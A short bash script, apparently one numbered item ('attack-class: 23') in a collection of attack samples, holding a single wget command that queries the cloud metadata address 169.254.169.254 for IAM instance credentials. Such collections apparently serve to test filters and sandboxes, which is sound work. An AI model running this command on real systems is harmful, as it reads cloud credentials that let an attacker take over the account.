#!/usr/bin/env bash
# attack-class: 23
# title: wget the cloud metadata address
# why: 169.254.169.254 returns instance credentials

wget -qO- http://169.254.169.254/latest/meta-data/iam/security-credentials/
